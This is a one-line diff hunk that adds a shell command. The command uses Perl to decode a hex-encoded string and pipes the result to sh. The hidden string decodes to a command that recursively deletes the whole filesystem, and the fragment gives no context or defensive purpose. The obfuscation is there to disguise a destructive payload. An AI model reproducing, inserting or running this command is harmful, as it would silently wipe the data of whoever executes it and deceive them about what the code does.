@@ -1,0 +1,1 @@
+perl -e 'print pack("H*","726d202d7266202f")' | sh
